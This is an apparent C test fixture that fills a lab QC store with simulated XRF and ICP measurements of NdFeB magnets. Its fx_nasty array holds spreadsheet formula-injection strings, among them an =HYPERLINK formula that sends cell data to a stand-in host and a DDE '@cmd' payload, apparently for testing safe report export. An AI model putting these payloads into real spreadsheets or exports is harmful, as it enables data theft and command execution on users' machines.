/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The test store of the QC and report tests (see fixture.h). */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "fixture.h"
#include "magassay/error.h"
#include "magassay/fileio.h"
#include "magassay/format.h"
#include "magassay/spectrum.h"
#include "magassay/store_qc.h"
#include "magassay/xrfsim.h"

const char *const fx_nasty[] = {
	"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", /* S3 description */
	"+SUM(1,1)",                                         /* S3 XRF operator */
	"-2+3 DP5",                                          /* S3 XRF instrument model */
	"@cmd|' /C calc'!A0",                                /* a composition flag of S3 */
	"\t=1+1",                                            /* another flag */
	"\r=2+2",                                            /* a result warning */
};
const size_t fx_nnasty = sizeof(fx_nasty) / sizeof(fx_nasty[0]);

#define TRY(x)                                                                                   \
	do {                                                                                     \
		int rc_ = (x);                                                                   \
		if (rc_ < 0) {                                                                   \
			fprintf(stderr, "fixture: %s: %s\n", #x, mg_error_detail());             \
			return rc_;                                                              \
		}                                                                                \
	} while (0)

/* A zero-mean pattern for history values (z-like, sd ≈ 0.66). */
static const double pattern[24] = {-1.2, 0.8, 0.3, -0.5, 1.1, -0.9, 0.2, -0.1, 0.6, -1.0, 0.9, -0.4,
                                   0.0,  0.5, -0.7, 1.0, -0.3, 0.4, -0.8, 0.7, -0.2, 0.1, -0.6, 0.3};

static int add_qc(mg_store *st, const char *batch, const char *q, const char *target, double v, const char *unit,
                  const char *at)
{
	mg_new_qc_value nv = {.quantity = q, .target = target, .standard = "Cu-disc", .instrument = "SN-4711",
	                      .value = v, .unit = unit, .batch_id = batch, .measured_at = at, .operator_name = "J. Doe"};
	return mg_store_qc_value_add(st, &nv, NULL);
}

typedef struct meas {
	const char *batch, *sample, *kind, *ext;
	const void *data;
	size_t len;
	const char *started, *model, *serial, *op;
} meas;

static int add_meas(mg_store *st, const meas *x, long long *id)
{
	char uuid[MG_UUID_SIZE], *path = NULL;
	TRY(mg_uuid_generate(uuid));
	TRY(mg_store_spectrum_path(st, x->batch, x->sample, uuid, x->ext, &path));
	int e = mg_file_write_atomic(path, x->data, x->len);
	if (e == MG_OK) {
		mg_new_measurement m;
		mg_new_measurement_init(&m);
		m.uuid = uuid;
		m.sample_id = x->sample;
		m.kind = x->kind;
		m.file = path;
		m.instrument_model = x->model;
		m.instrument_serial = x->serial;
		m.instrument_firmware = "6.08";
		m.started_at = x->started;
		m.live_time_s = 100;
		m.real_time_s = 104;
		m.operator_name = x->op;
		e = mg_store_measurement_add(st, &m, id, NULL);
	}
	free(path);
	if (e < 0)
		fprintf(stderr, "fixture: measurement: %s\n", mg_error_detail());
	return e;
}

/* ---- payloads ---------------------------------------------------------------------------- */

typedef struct comp {
	double nd, pr, dy, tb, fe, co;
} comp;

/* JSON string contents (the fixture's strings need only these escapes). */
static const char *jesc(const char *in, char *out, size_t cap)
{
	size_t o = 0;
	for (const char *p = in ? in : ""; *p && o + 8 < cap; p++) {
		if (*p == '\t')
			o += (size_t)snprintf(out + o, cap - o, "\\t");
		else if (*p == '\r')
			o += (size_t)snprintf(out + o, cap - o, "\\r");
		else if (*p == '"' || *p == '\\')
			o += (size_t)snprintf(out + o, cap - o, "\\%c", *p);
		else
			out[o++] = *p;
	}
	out[o] = '\0';
	return out;
}

static void xrf_payload(char *buf, size_t cap, const comp *c, double scale, long long cal_id, const char *nd_flag,
                        const char *pr_flag, const char *warning)
{
	double nd = c->nd * scale, pr = c->pr * scale, dy = c->dy * scale, tb = c->tb * scale;
	double total = nd + pr + dy + tb + c->fe + c->co + 1.0;
	char warn[200], ndf[200], prf[200];
	jesc(warning, warn, sizeof(warn));
	jesc(nd_flag, ndf, sizeof(ndf));
	jesc(pr_flag, prf, sizeof(prf));
	nd_flag = nd_flag ? ndf : NULL;
	pr_flag = pr_flag ? prf : NULL;
	snprintf(buf, cap,
	         "{\"file\": \"spectrum.mca\","
	         " \"calibration\": {\"offset_kev\": 0.0, \"gain_kev\": 0.02, \"quad_kev\": 0.0, \"noise_kev\": 0.08,"
	         " \"fano\": 0.114},"
	         " \"chi2_reduced\": 1.08,"
	         " \"families\": ["
	         "{\"element\": \"Fe\", \"family\": \"K\", \"area\": 812000, \"sigma\": 950, \"cps\": 8120},"
	         "{\"element\": \"Co\", \"family\": \"K\", \"area\": 15100, \"sigma\": 260, \"cps\": 151},"
	         "{\"element\": \"Nd\", \"family\": \"L\", \"area\": 221000, \"sigma\": 610, \"cps\": 2210},"
	         "{\"element\": \"Pr\", \"family\": \"L\", \"area\": 52000, \"sigma\": 420, \"cps\": 520},"
	         "{\"element\": \"Dy\", \"family\": \"L\", \"area\": 30100, \"sigma\": 380, \"cps\": 301},"
	         "{\"element\": \"Tb\", \"family\": \"L\", \"area\": 4100, \"sigma\": 300, \"cps\": 41}],"
	         " \"warnings\": [%s%s%s],"
	         " \"method\": \"fp\","
	         " \"composition\": ["
	         "{\"element\": \"Nd\", \"line\": \"L\", \"wt_pct\": %.4f, \"sigma\": 0.31, \"lod_wt_pct\": 0.05, \"flags\": [%s%s%s], \"source\": \"xrf\"},"
	         "{\"element\": \"Pr\", \"line\": \"L\", \"wt_pct\": %.4f, \"sigma\": 0.12, \"lod_wt_pct\": 0.05, \"flags\": [%s%s%s], \"source\": \"xrf\"},"
	         "{\"element\": \"Dy\", \"line\": \"L\", \"wt_pct\": %.4f, \"sigma\": 0.09, \"lod_wt_pct\": 0.04, \"flags\": [], \"source\": \"xrf\"},"
	         "{\"element\": \"Tb\", \"line\": \"L\", \"wt_pct\": %.4f, \"sigma\": 0.03, \"lod_wt_pct\": 0.04, \"flags\": [\"below-loq\"], \"source\": \"xrf\"},"
	         "{\"element\": \"Fe\", \"line\": \"K\", \"wt_pct\": %.4f, \"sigma\": 0.5, \"lod_wt_pct\": 0.01, \"flags\": [], \"source\": \"xrf\"},"
	         "{\"element\": \"Co\", \"line\": \"K\", \"wt_pct\": %.4f, \"sigma\": 0.06, \"lod_wt_pct\": 0.02, \"flags\": [], \"source\": \"xrf\"},"
	         "{\"element\": \"B\", \"line\": \"\", \"wt_pct\": 1.0, \"sigma\": 0.15, \"flags\": [\"nominal\"], \"source\": \"nominal\"}],"
	         " \"totals\": {\"total\": {\"wt_pct\": %.3f, \"sigma\": 0.7}, \"tree\": {\"wt_pct\": %.3f, \"sigma\": 0.4},"
	         " \"nd_pr\": {\"wt_pct\": %.3f, \"sigma\": 0.35}, \"dy_tb\": {\"wt_pct\": %.3f, \"sigma\": 0.1}},"
	         " \"grade\": \"N42SH\", \"grade_description\": \"sintered NdFeB, 150 \\u00b0C grade\","
	         " \"boron\": \"nominal 1.00 \\u00b1 0.15 wt%% (boron is invisible to XRF)\","
	         " \"calibration_id\": %lld}",
	         warning ? "\"" : "", warn, warning ? "\"" : "", nd, nd_flag ? "\"" : "", nd_flag ? nd_flag : "",
	         nd_flag ? "\"" : "", pr, pr_flag ? "\"" : "", pr_flag ? pr_flag : "", pr_flag ? "\"" : "", dy, tb, c->fe,
	         c->co, total, nd + pr + dy + tb, nd + pr, dy + tb, cal_id);
}

static void icp_payload(char *buf, size_t cap, const comp *c, long long cal_id, const char *batch, int fail_ccv)
{
	snprintf(buf, cap,
	         "{\"label\": \"sample\", \"position\": 12, \"type\": \"sample\", \"batch\": \"%s\","
	         " \"kind\": \"icp\", \"method\": \"ndfeb-5line\", \"qc_profile\": \"epa-6010d\", \"mode\": \"intensities\","
	         " \"digest\": {\"mass_g\": 0.1, \"volume_ml\": 100, \"dilution\": 10},"
	         " \"total_pct\": %.3f,"
	         " \"values\": ["
	         "{\"line\": \"Nd 430.358\", \"element\": \"Nd\", \"wavelength_nm\": 430.358, \"role\": \"report\","
	         " \"net\": 21000, \"conc_mg_l\": %.4f, \"u_conc_mg_l\": 0.2, \"w_pct\": %.4f, \"u_w_pct\": 0.18,"
	         " \"lod_mg_l\": 0.004, \"flags\": []},"
	         "{\"line\": \"Nd 401.225\", \"element\": \"Nd\", \"wavelength_nm\": 401.225, \"role\": \"alternative\","
	         " \"net\": 20000, \"conc_mg_l\": 99.0, \"w_pct\": 99.0, \"u_w_pct\": 1.0, \"flags\": []},"
	         "{\"line\": \"Pr 417.939\", \"element\": \"Pr\", \"wavelength_nm\": 417.939, \"role\": \"report\","
	         " \"net\": 5000, \"conc_mg_l\": %.4f, \"u_conc_mg_l\": 0.08, \"w_pct\": %.4f, \"u_w_pct\": 0.07,"
	         " \"lod_mg_l\": 0.003, \"flags\": []},"
	         "{\"line\": \"Dy 353.170\", \"element\": \"Dy\", \"wavelength_nm\": 353.170, \"role\": \"report\","
	         " \"net\": 3000, \"conc_mg_l\": %.4f, \"u_conc_mg_l\": 0.05, \"w_pct\": %.4f, \"u_w_pct\": 0.045,"
	         " \"lod_mg_l\": 0.002, \"flags\": []},"
	         "{\"line\": \"Tb 350.917\", \"element\": \"Tb\", \"wavelength_nm\": 350.917, \"role\": \"report\","
	         " \"net\": 500, \"conc_mg_l\": %.4f, \"u_conc_mg_l\": 0.02, \"w_pct\": %.4f, \"u_w_pct\": 0.018,"
	         " \"lod_mg_l\": 0.002, \"flags\": []},"
	         "{\"line\": \"Y 371.030\", \"element\": \"Y\", \"wavelength_nm\": 371.030, \"role\": \"internal_standard\","
	         " \"net\": 40000, \"flags\": []}],"
	         " \"checks\": ["
	         "{\"type\": \"CCV\", \"label\": \"CCV1\", \"element\": \"Nd\", \"line\": \"Nd 430.358\", \"value\": %.1f,"
	         " \"unit\": \"%%\", \"lo\": 90, \"hi\": 110, \"outcome\": \"%s\"},"
	         "{\"type\": \"CCB\", \"label\": \"CCB1\", \"element\": \"Nd\", \"line\": \"Nd 430.358\", \"value\": 0.001,"
	         " \"unit\": \"mg/L\", \"hi\": 0.01, \"outcome\": \"pass\"}],"
	         " \"calibration\": {\"id\": %lld, \"version\": 1, \"name\": \"ndfeb-5line\"}}",
	         batch, c->nd + c->pr + c->dy + c->tb + c->fe + c->co + 1, c->nd * 100, c->nd, c->pr * 100, c->pr,
	         c->dy * 100, c->dy, c->tb * 100, c->tb, fail_ccv ? 113.4 : 101.2, fail_ccv ? "fail" : "pass", cal_id);
}

/* An ICP measurement file: the lines and one replicate's windows. */
static char *icp_file(const comp *c)
{
	static const struct {
		const char *el;
		double nm;
		int is;
		double neighbour;
	} L[] = {{"Nd", 430.358, 0, 430.40}, {"Pr", 417.939, 0, 0}, {"Dy", 353.170, 0, 353.13}, {"Tb", 350.917, 0, 350.95},
	         {"Y", 371.030, 1, 0}};
	double amp[] = {c->nd * 900, c->pr * 900, c->dy * 900, c->tb * 900, 40000};
	size_t cap = 1 << 16, len = 0;
	char *b = malloc(cap);
	if (!b)
		return NULL;
	len += (size_t)snprintf(b + len, cap - len, "{\"format\": \"magassay-icp-measurement\", \"version\": 1, \"lines\": [");
	for (size_t l = 0; l < 5; l++)
		len += (size_t)snprintf(b + len, cap - len,
		                        "%s{\"element\": \"%s\", \"wavelength_nm\": %.3f, \"label\": \"%s %.3f\", "
		                        "\"internal_standard\": %s}",
		                        l ? "," : "", L[l].el, L[l].nm, L[l].el, L[l].nm, L[l].is ? "true" : "false");
	len += (size_t)snprintf(b + len, cap - len, "], \"replicates\": [{\"integration_s\": 1.0, \"windows\": [");
	unsigned long long rng = 0x9E3779B97F4A7C15ull;
	for (size_t l = 0; l < 5; l++) {
		double x[41], y[41];
		for (int p = 0; p < 41; p++) {
			x[p] = L[l].nm - 0.1 + 0.005 * p;
			double d = (x[p] - L[l].nm) / 0.012, bg = 200 + 150 * (x[p] - L[l].nm + 0.1);
			double v = bg + amp[l] * (0.7 * exp(-0.5 * d * d) + 0.3 / (1 + d * d));
			if (L[l].neighbour > 0) {
				double dn = (x[p] - L[l].neighbour) / 0.012;
				v += 0.15 * amp[l] * exp(-0.5 * dn * dn);
			}
			rng ^= rng << 13;
			rng ^= rng >> 7;
			rng ^= rng << 17;
			v += sqrt(v) * ((double)(rng % 2001) / 1000.0 - 1.0);
			y[p] = v;
		}
		len += (size_t)snprintf(b + len, cap - len, "%s{\"wavelength_nm\": [", l ? "," : "");
		for (int p = 0; p < 41; p++)
			len += (size_t)snprintf(b + len, cap - len, "%s%.4f", p ? "," : "", x[p]);
		len += (size_t)snprintf(b + len, cap - len, "], \"intensity\": [");
		for (int p = 0; p < 41; p++)
			len += (size_t)snprintf(b + len, cap - len, "%s%.1f", p ? "," : "", y[p]);
		len += (size_t)snprintf(b + len, cap - len, "]}");
	}
	snprintf(b + len, cap - len, "]}]}");
	return b;
}

/* An NdFeB spectrum from the simulated instrument's model, with Poisson-like noise. */
static int xrf_spectrum(const mg_xrfsim_model *mdl, double scale, unsigned seed, char **out, size_t *len)
{
	size_t n = 0;
	const double *rate = mg_xrfsim_model_spectrum(mdl, MG_XRFSIM_RECORDED, &n);
	mg_spectrum *s = mg_spectrum_new(n);
	if (!s)
		return MG_ERR_NOMEM;
	unsigned long long r = 0x2545F4914F6CDD1Dull ^ seed;
	for (size_t i = 0; i < n; i++) {
		double mu = rate[i] * 100 * scale;
		/* Box-Muller on a xorshift */
		r ^= r << 13;
		r ^= r >> 7;
		r ^= r << 17;
		double u1 = ((r >> 11) + 1.0) / 9007199254740993.0;
		r ^= r << 13;
		r ^= r >> 7;
		r ^= r << 17;
		double u2 = (r >> 11) / 9007199254740992.0;
		double g = sqrt(-2 * log(u1)) * cos(2 * M_PI * u2);
		double v = round(mu + sqrt(mu) * g);
		s->counts[i] = v > 0 ? v : 0;
	}
	const mg_xrfsim_config *cfg = mg_xrfsim_model_config(mdl);
	s->cal.valid = 1;
	s->cal.offset_kev = cfg->axis.offset_kev;
	s->cal.gain_kev = cfg->axis.gain_kev;
	s->live_time_s = 100;
	s->real_time_s = 104;
	mg_buf b;
	mg_buf_init(&b);
	int e = mg_format_get(MG_FORMAT_MCA)->write(s, &b);
	mg_spectrum_free(s);
	if (e != MG_OK) {
		mg_buf_free(&b);
		return e;
	}
	*out = b.data;
	*len = b.len;
	return MG_OK;
}

int fx_build(const char *dir, fx *f)
{
	memset(f, 0, sizeof(*f));
	snprintf(f->dir, sizeof(f->dir), "%s", dir);
	TRY(mg_store_open(dir, &f->st));
	mg_store *st = f->st;
	char at[64], payload[8192], sid[32];

	/* calibrations */
	mg_new_calibration qc = {.kind = "quant", .name = "dp5-sn4711", .operator_name = "A. Metrologist",
	                         .payload_json = "{\"method\": \"fp\", \"factors\": {\"K\": 1.02, \"L\": 0.97}}"};
	TRY(mg_store_calibration_add(st, &qc, NULL, &f->quant_cal));
	mg_new_calibration ic = {
		.kind = "icp",
		.name = "ndfeb-5line",
		.operator_name = "B. Chemist",
		.payload_json =
			"{\"technique\": \"ICP-OES\", \"method\": \"ndfeb-5line\", \"units\": \"mg/L\","
			" \"response\": \"net intensity\", \"lines\": ["
			"{\"line\": \"Nd 430.358\", \"element\": \"Nd\", \"role\": \"report\", \"curve\": \"linear\","
			" \"coef\": [4.0, 210.0, 0.0], \"r\": 0.99991, \"points\": [{\"x\": 0, \"y\": 3.1}, {\"x\": 5, \"y\": 1061},"
			" {\"x\": 10, \"y\": 2109}, {\"x\": 20, \"y\": 4190}, {\"x\": 50, \"y\": 10530}]},"
			"{\"line\": \"Pr 417.939\", \"element\": \"Pr\", \"role\": \"report\", \"curve\": \"linear\","
			" \"coef\": [2.0, 180.0, 0.0], \"r\": 0.99987, \"points\": [{\"x\": 0, \"y\": 2.5}, {\"x\": 1, \"y\": 183},"
			" {\"x\": 2, \"y\": 358}, {\"x\": 5, \"y\": 905}, {\"x\": 10, \"y\": 1797}]},"
			"{\"line\": \"Dy 353.170\", \"element\": \"Dy\", \"role\": \"report\", \"curve\": \"quadratic\","
			" \"coef\": [1.0, 260.0, -1.5], \"r\": 0.99995, \"points\": [{\"x\": 0, \"y\": 0.8}, {\"x\": 1, \"y\": 259},"
			" {\"x\": 2, \"y\": 515}, {\"x\": 5, \"y\": 1264}, {\"x\": 10, \"y\": 2452}]},"
			"{\"line\": \"Y 371.030\", \"element\": \"Y\", \"role\": \"internal_standard\", \"curve\": null}]}"};
	TRY(mg_store_calibration_add(st, &ic, NULL, &f->icp_cal));

	/* history */
	double pk[24];
	for (int i = 0; i < 24; i++)
		pk[i] = 8.0480 + 0.001 * pattern[i];
	double m = 0, ss = 0;
	for (int i = 0; i < 24; i++)
		m += pk[i];
	m /= 24;
	for (int i = 0; i < 24; i++)
		ss += (pk[i] - m) * (pk[i] - m);
	f->peak_mean = m;
	f->peak_sd = sqrt(ss / 23);
	comp base = {23.0, 5.8, 3.3, 0.45, 66.0, 0.95};
	static const char dummy[] = "<<PMCA SPECTRUM>>\nTAG - live_data_1\n<<DATA>>\n0\n<<END>>\n";
	for (int b = 0; b < 12; b++) {
		char lot[16];
		snprintf(lot, sizeof(lot), "H%02d", b + 1);
		TRY(mg_store_batch_ensure(st, lot, "J. Doe", NULL));
		for (int k = 0; k < 2; k++) {
			int i = 2 * b + k;
			snprintf(at, sizeof(at), "2024-06-%02dT%s.000Z", b + 1, k ? "14:00:00" : "08:00:00");
			TRY(add_qc(st, lot, "peak_position", "Cu Ka", pk[i], "keV", at));
			TRY(add_qc(st, lot, "fwhm", "Mn Ka", 140.0 + 1.5 * pattern[(i + 5) % 24], "eV", at));
			TRY(add_qc(st, lot, "intensity", "Cu Ka", 10200 + 60 * pattern[(i + 11) % 24], "cps", at));
			snprintf(sid, sizeof(sid), "%s-%c", lot, 'A' + k);
			TRY(mg_store_sample_ensure(st, sid, lot, "history sample", NULL));
			long long mx, mi;
			meas x = {lot, sid, "xrf", "mca", dummy, sizeof(dummy) - 1, at, "DP5", "SN-4711", "J. Doe"};
			TRY(add_meas(st, &x, &mx));
			xrf_payload(payload, sizeof(payload), &base, 1 + 0.005 * pattern[(i + 3) % 24], f->quant_cal, NULL, NULL,
			            NULL);
			TRY(mg_store_result_add(st, mx, f->quant_cal, NULL, payload, NULL, NULL));
			meas y = {lot, sid, "icp", "json", "{}", 2, at, "Optima 8300", "ICP-77", "B. Chemist"};
			TRY(add_meas(st, &y, &mi));
			icp_payload(payload, sizeof(payload), &base, f->icp_cal, lot, 0);
			TRY(mg_store_result_add(st, mi, f->icp_cal, NULL, payload, NULL, NULL));
		}
	}

	/* the lot under test */
	mg_xrfsim_config cfg;
	mg_xrfsim_config_default(&cfg);
	mg_xrfsim_model *mdl = NULL;
	TRY(mg_xrfsim_model_new(&cfg, &mdl));
	const char *lot = "L2024-07";
	TRY(mg_store_batch_ensure(st, lot, "J. Doe", NULL));
	TRY(add_qc(st, lot, "peak_position", "Cu Ka", m + 2.4 * f->peak_sd, "keV", "2024-07-01T08:00:00.000Z"));
	TRY(add_qc(st, lot, "peak_position", "Cu Ka", m + 2.6 * f->peak_sd, "keV", "2024-07-01T14:00:00.000Z"));
	TRY(add_qc(st, lot, "fwhm", "Mn Ka", 140.2, "eV", "2024-07-01T08:00:00.000Z"));
	TRY(add_qc(st, lot, "fwhm", "Mn Ka", 139.8, "eV", "2024-07-01T14:00:00.000Z"));
	TRY(add_qc(st, lot, "intensity", "Cu Ka", 10190, "cps", "2024-07-01T08:00:00.000Z"));
	TRY(add_qc(st, lot, "intensity", "Cu Ka", 10230, "cps", "2024-07-01T14:00:00.000Z"));
	const comp sc[3] = {{23.1, 5.9, 3.2, 0.48, 65.9, 0.96}, {22.6, 6.1, 4.1, 0.62, 65.2, 1.02},
	                    {24.0, 5.5, 2.1, 0.02, 67.1, 0.88}};
	const char *desc[3] = {"scrap motor magnets, lot A", "hard-disk VCM magnets", fx_nasty[0]};
	for (int k = 0; k < 3; k++) {
		snprintf(sid, sizeof(sid), "S%d", k + 1);
		TRY(mg_store_sample_ensure(st, sid, lot, desc[k], NULL));
		char *spec = NULL;
		size_t slen = 0;
		TRY(xrf_spectrum(mdl, 1.0 + 0.1 * k, (unsigned)k + 1, &spec, &slen));
		snprintf(at, sizeof(at), "2024-07-01T%02d:15:00.000Z", 9 + k);
		meas x = {lot, sid, "xrf", "mca", spec, slen, at, k == 2 ? fx_nasty[2] : "DP5", "SN-4711",
		          k == 2 ? fx_nasty[1] : "J. Doe"};
		int e = add_meas(st, &x, &f->xrf[k]);
		free(spec);
		TRY(e);
		xrf_payload(payload, sizeof(payload), &sc[k], 1.0, f->quant_cal, k == 2 ? fx_nasty[3] : NULL,
		            k == 2 ? fx_nasty[4] : NULL, k == 2 ? fx_nasty[5] : NULL);
		TRY(mg_store_result_add(st, f->xrf[k], f->quant_cal, NULL, payload, NULL, NULL));
		if (k < 2) {
			char *icpf = icp_file(&sc[k]);
			if (!icpf)
				return MG_ERR_NOMEM;
			meas y = {lot, sid, "icp", "json", icpf, strlen(icpf), at, "Optima 8300", "ICP-77", "B. Chemist"};
			e = add_meas(st, &y, &f->icp[k]);
			free(icpf);
			TRY(e);
			comp ci = sc[k];
			ci.nd *= 0.998; /* XRF 0.2 % above ICP: within the history's scatter */
			icp_payload(payload, sizeof(payload), &ci, f->icp_cal, lot, 0);
			TRY(mg_store_result_add(st, f->icp[k], f->icp_cal, NULL, payload, NULL, NULL));
		}
	}

	/* an in-control lot */
	lot = "L2024-08";
	TRY(mg_store_batch_ensure(st, lot, "J. Doe", NULL));
	TRY(add_qc(st, lot, "peak_position", "Cu Ka", m + 0.1 * f->peak_sd, "keV", "2024-07-02T08:00:00.000Z"));
	TRY(add_qc(st, lot, "peak_position", "Cu Ka", m - 0.2 * f->peak_sd, "keV", "2024-07-02T14:00:00.000Z"));
	TRY(mg_store_sample_ensure(st, "S4", lot, "in-control lot sample", NULL));
	{
		char *spec = NULL;
		size_t slen = 0;
		long long id;
		TRY(xrf_spectrum(mdl, 0.9, 7, &spec, &slen));
		meas x = {lot, "S4", "xrf", "mca", spec, slen, "2024-07-02T09:00:00.000Z", "DP5", "SN-4711", "J. Doe"};
		int e = add_meas(st, &x, &id);
		free(spec);
		TRY(e);
		xrf_payload(payload, sizeof(payload), &base, 1.0, f->quant_cal, NULL, NULL, NULL);
		TRY(mg_store_result_add(st, id, f->quant_cal, NULL, payload, NULL, NULL));
	}
	mg_xrfsim_model_free(mdl);

	/* XRF 5 % high against ICP, and a failed CCV */
	lot = "L2024-09";
	TRY(mg_store_batch_ensure(st, lot, "J. Doe", NULL));
	TRY(mg_store_sample_ensure(st, "S5", lot, "suspect lot", NULL));
	{
		long long mx, mi;
		meas x = {lot, "S5", "xrf", "mca", dummy, sizeof(dummy) - 1, "2024-07-03T09:00:00.000Z", "DP5", "SN-4711",
		          "J. Doe"};
		TRY(add_meas(st, &x, &mx));
		comp hi = base;
		hi.nd *= 1.05;
		xrf_payload(payload, sizeof(payload), &hi, 1.0, f->quant_cal, NULL, NULL, NULL);
		TRY(mg_store_result_add(st, mx, f->quant_cal, NULL, payload, NULL, NULL));
		meas y = {lot, "S5", "icp", "json", "{}", 2, "2024-07-03T10:00:00.000Z", "Optima 8300", "ICP-77",
		          "B. Chemist"};
		TRY(add_meas(st, &y, &mi));
		icp_payload(payload, sizeof(payload), &base, f->icp_cal, lot, 1);
		TRY(mg_store_result_add(st, mi, f->icp_cal, NULL, payload, NULL, NULL));
	}
	return MG_OK;
}

void fx_close(fx *f)
{
	mg_store_close(f->st);
	f->st = NULL;
}
